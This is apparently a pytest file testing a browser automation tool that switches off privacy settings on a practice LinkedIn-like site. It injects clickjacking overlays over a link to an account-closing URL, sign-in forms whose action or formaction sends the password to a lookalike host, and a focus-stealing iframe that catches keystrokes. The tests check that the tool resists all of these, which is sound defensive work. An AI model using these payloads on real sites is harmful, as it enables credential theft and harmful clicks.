"""Pages built so that a hasty click, key or conclusion does harm. The site's record says what was done."""

from __future__ import annotations

from functools import partial
from typing import Any

import pytest

from automation.outcomes import Outcome, Reason
from automation.practice import PracticeSite, Scenario
from automation.practice.messages import HttpRequest, Response
from tests.browser.driving import AI, AI_KEY, Driver, slower
from tests.site.key_trap import KeyTrap
from tests.site.mapped import MappedSite
from tests.site.pages import RENDERED, on_settings


def on_sign_in(script: str) -> type[PracticeSite]:
    """A site whose sign-in page runs this first; `form` is its form."""

    class Trap(PracticeSite):
        def script(self) -> str:
            mine = "form && form.querySelector('[type=password]')"
            return f"{{ const form = document.forms[0]; if ({mine}) {{ {script} }} }}"

    return Trap


DANGER = "/mypreferences/d/close-accounts"


WITHIN_A_LINK = f'const a = document.createElement("a"); a.href = "{DANGER}"; toggle.replaceWith(a); a.append(toggle);'
OVER_IT = 'toggle.style.position = "relative"; toggle.insertAdjacentHTML("beforeend", `{}`);'
LINK = f'<a href="{DANGER}" style="position:absolute;inset:0;z-index:5">more</a>'
RADIO = '<input type="radio" style="position:absolute;inset:0;margin:auto">'


@pytest.mark.row(27)
@pytest.mark.parametrize(
    "script",
    [WITHIN_A_LINK, OVER_IT.format(LINK), OVER_IT.format(RADIO)],
    ids=["within a link", "under a link", "beside a radio"],
)
def test_what_is_not_the_switch_alone_is_not_clicked(driver: Driver, script: str) -> None:
    drive = driver.real(on_settings(script))

    assert drive.ending()[0] is Outcome.NEEDS_YOU
    assert drive.record.writes == []
    assert DANGER not in {request.path for request in drive.record.requests}


def test_a_bar_at_the_edge_of_the_window_is_scrolled_away_from(driver: Driver) -> None:
    bar = on_settings(
        'document.querySelector("main").style.cssText = "padding-top:600px;padding-bottom:2000px";'
        "document.body.insertAdjacentHTML('beforeend', "
        "'<div style=\"position:fixed;left:0;right:0;bottom:0;height:300px;background:#ccc\"></div>');"
    )
    drive = driver.real(bar)

    assert drive.ending() == (Outcome.TURNED_OFF, None)


@pytest.mark.row(23)
@pytest.mark.parametrize("status", [429, pytest.param(999, marks=pytest.mark.thorough("the same with 999"))])
def test_a_refused_request_of_the_page_itself_ends_the_run(driver: Driver, status: int) -> None:
    class Refuses(PracticeSite):
        def respond(self, request: HttpRequest) -> Response:
            if request.method == "GET" and request.path.startswith(self.map.paths.api):
                return Response.json({"status": status}, status)
            return super().respond(request)

    drive = driver.real(Refuses, only=())

    assert drive.ended.reason in {Reason.RATE_LIMITED, Reason.REFUSED_BY_SITE}
    assert sum(request.path.startswith("/mysettings-api") for request in drive.record.requests) == 1


def test_a_session_that_is_gone_is_not_taken_for_a_setting_that_is_not_offered(driver: Driver) -> None:
    class SentAway(PracticeSite):
        """Forgets who is signed in and shows everybody the account page."""

        def document(self, request: HttpRequest) -> Response:
            if request.path in self.map.pages:
                self.sessions.close_all()
                away = Response.redirect(f"{self.map.paths.category}account")
                return self.sessions.give(away, self.map.cookies.session, "", "; Max-Age=0")
            if request.path.endswith("/categories/account"):
                return Response.html("<!doctype html><main id=main><h1>Account</h1><input type=password></main>")
            return super().document(request)

    drive = driver.real(SentAway)

    assert drive.ended.reason is Reason.SESSION_EXPIRED
    assert Outcome.NOT_OFFERED not in drive.outcomes.values()


@pytest.mark.row(28)
def test_a_state_that_comes_late_is_waited_for(driver: Driver) -> None:
    """The page draws the switch off at once and asks for its state, which takes a while."""

    class DrawsFirst(PracticeSite):
        def respond(self, request: HttpRequest) -> Response:
            if request.method == "GET" and request.path.startswith(self.map.paths.api) and "late" in request.query:
                self.stopping.wait(1.5)
            return super().respond(request)

        def script(self) -> str:
            return RENDERED.format(
                """
                const box = document.querySelector("input[role=switch]"); if (!box) return;
                performance.clearResourceTimings();
                const truth = box.checked; box.checked = false;
                const late = fetch(practice.data.api + "x?late=1").then((answer) => answer.text());
                late.then(() => { box.checked = truth; });
                """
            )

    drive = driver.real(DrawsFirst, pace=slower(calm=1.0))

    assert drive.ending() == (Outcome.TURNED_OFF, None)
    assert drive.record.switches[AI_KEY] is False


def test_a_proof_older_than_the_last_click_is_made_again(driver: Driver) -> None:
    class SecondSaveMoves(PracticeSite):
        """Loses the first save of one setting; its second turns another one on again."""

        lost = 0

        def save(self, key: str, *, value: bool) -> Response:
            if key != "allowUseOfThirdPartyData":
                return super().save(key, value=value)
            self.lost += 1
            if self.lost == 1:
                return Response.json({"key": key, "value": value})
            answer = super().save(key, value=value)
            self.record.turn(AI_KEY, value=True)
            return answer

    drive = driver.real(SecondSaveMoves, only=(AI, "linkedin.data-from-others"))

    assert drive.record.switches[AI_KEY] is True
    assert drive.ending(AI)[0] is not Outcome.TURNED_OFF
    assert drive.outcomes["linkedin.data-from-others"] is Outcome.TURNED_OFF


# --- where a password may go ---

JOIN = """form.setAttribute('action', '/signup/submit');
    form.querySelector('[type=submit]').textContent = 'Agree & Join';"""
CLOBBERED = """form.setAttribute('action', '{trap}/keys');
    form.insertAdjacentHTML('beforeend', '<input type=hidden name=action>');"""


@pytest.mark.row(14)
@pytest.mark.parametrize(
    "script",
    [
        "form.querySelector('[type=submit]').setAttribute('formaction', '{trap}/keys');",
        CLOBBERED,
        "form.method = 'get';",
        "form.querySelector('[type=password]').autocomplete = 'new-password';",
        JOIN,
        "form.querySelector('[type=submit]').textContent = 'Sign in with Apple';",
    ],
    ids=["formaction", "clobbered action", "get", "new password", "join", "apple"],
)
def test_a_form_that_is_not_the_sites_own_sign_in_is_never_sent(driver: Driver, script: str) -> None:
    with MappedSite(KeyTrap, "www.linkedin-login.com") as trap:
        drive = driver.real(on_sign_in(script.replace("{trap}", trap.origin)), trap)

        assert trap.site.keys == []
    assert drive.ended.reason is Reason.NEEDS_SIGN_IN
    assert drive.record.sign_ins == []
    assert not any("session_password" in request.query_keys for request in drive.record.requests)


@pytest.mark.row(14)
def test_a_frame_that_takes_the_focus_gets_no_key(driver: Driver) -> None:
    with MappedSite(KeyTrap, "www.linkedin-login.com") as trap:
        steal = on_sign_in(
            f"const frame = document.createElement('iframe'); frame.src = '{trap.origin}/frame';"
            "document.body.append(frame);"
            "form.querySelector('[type=password]').addEventListener('input', () => frame.focus(), { once: true });"
        )
        drive = driver.real(steal, trap)

        assert trap.site.visits
        assert trap.site.keys == []
    assert drive.ended.reason in {None, Reason.NEEDS_SIGN_IN}


@pytest.mark.usefixtures("screen")
def test_a_challenge_that_passes_by_itself_does_not_hold_the_run_up(driver: Driver) -> None:
    def slow(event: Any) -> None:
        if event.NAME == "your_turn":
            driver.cancel.wait(1.5)

    drive = driver.real(partial(PracticeSite, Scenario(challenge="phone", self_solving=0.2)), screen=True, on=slow)

    assert drive.ending() == (Outcome.TURNED_OFF, None)
